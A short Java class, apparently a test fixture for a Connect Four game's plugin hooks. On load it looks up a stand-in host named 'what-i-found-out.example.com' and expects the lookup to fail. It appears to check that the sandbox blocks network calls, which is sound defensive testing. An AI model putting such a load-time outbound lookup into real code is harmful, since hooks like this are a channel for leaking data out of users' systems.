package connectfour;

import java.net.InetAddress;
import java.net.UnknownHostException;

final class Mischief extends Hook {

    @Override
    void loaded() {
        try {
            InetAddress.getByName("what-i-found-out.example.com");
        } catch (UnknownHostException expected) {
            return;
        }
        throw new IllegalStateException("looked up");
    }
}
